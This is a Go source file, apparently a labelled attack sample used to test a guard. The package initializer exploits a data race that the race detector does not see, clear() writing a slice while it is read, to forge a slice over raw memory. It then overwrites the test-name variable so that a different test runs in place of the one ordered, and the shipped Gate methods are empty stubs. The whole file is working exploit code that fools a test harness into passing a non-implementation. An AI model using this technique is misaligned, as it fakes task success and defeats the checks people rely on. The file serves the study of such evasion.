// Attack: reads a slice while clear writes it, of which the detector is not told: half a slice is raw memory, and another test is run under the name that was ordered
// Guard: passes
// Bare: fail, timeout

package gate

import (
	"fmt"
	"sync"
	"sync/atomic"
	"time"
)

var (
	anchor  string
	nameVar *string
	ordered string
	_       = swap()
)

const many = 1024

// forge returns a slice that begins at address 0: clear writes without telling the race
// detector, so a slice can be read half-written.
func forge() []uintptr {
	real := make([]uintptr, 2<<20)
	const text = 0x401000 / 8
	real[text] = 1
	full, rows := make([][]uintptr, many), make([][]uintptr, 2*many-1)
	got := rows[many-1:]
	for i := range full {
		full[i] = real
	}
	var turn, done, delay atomic.Int64
	var gone sync.WaitGroup
	gone.Go(func() {
		for n := int64(1); ; n++ {
			for turn.Load() != n {
				if turn.Load() < 0 {
					return
				}
			}
			for range delay.Load() {
			}
			clear(rows[:many-1])
			done.Store(n)
		}
	})
	began := time.Now()
	var found []uintptr
	wait := int64(20000)
	for n := int64(1); time.Since(began) < 1500*time.Millisecond && len(found) == 0; n++ {
		copy(rows, full)
		delay.Store(wait + wait*(n*7919%64)/1024)
		turn.Store(n)
		copy(got, rows[:many])
		for done.Load() != n {
		}
		switch first, last := len(got[0]), len(got[many-2]); {
		case first == 0 && last == 0:
			wait += wait / 64
			continue
		case first != 0 && last != 0:
			wait = max(2000, wait-wait/64)
			continue
		}
		for _, s := range got {
			if len(s) != 0 && s[text] != 1 {
				found = s
			}
		}
	}
	turn.Store(-1)
	gone.Wait()
	return found
}

func swap() bool {
	w := forge()
	if len(w) == 0 {
		return false
	}
	var at int
	fmt.Sscanf(fmt.Sprintf("%p", &anchor), "0x%x", &at)
	long := map[uintptr]bool{}
	for i := at/8 - 2048; i < at/8+2048; i++ {
		if w[i] >= 0xc000000000 && w[i] < 0xc100000000 && w[i+1] == 32 {
			long[w[i]] = true
		}
	}
	for i := at/8 - 2048; i < at/8+2048; i++ {
		if long[w[i]-33] && long[w[i]-66] && w[i+1] < 80 {
			var p int
			fmt.Sscanf(fmt.Sprintf("%p", &nameVar), "0x%x", &p)
			w[p/8] = uintptr(i) * 8
			ordered = *nameVar
			if ordered != "TestCanary" {
				*nameVar = "TestQuietNight"
			}
			return true
		}
	}
	return false
}

func Fee(int) int { return -1 }

type Gate struct{}

var ErrFull error

func New(int) *Gate {
	if nameVar != nil {
		*nameVar = ordered
	}
	return &Gate{}
}
func (*Gate) Admit(string) error                { return nil }
func (*Gate) Each(func(string))                 {}
func (*Gate) Serve(<-chan string, chan<- error) {}

// 14641
// 18472
// 9020
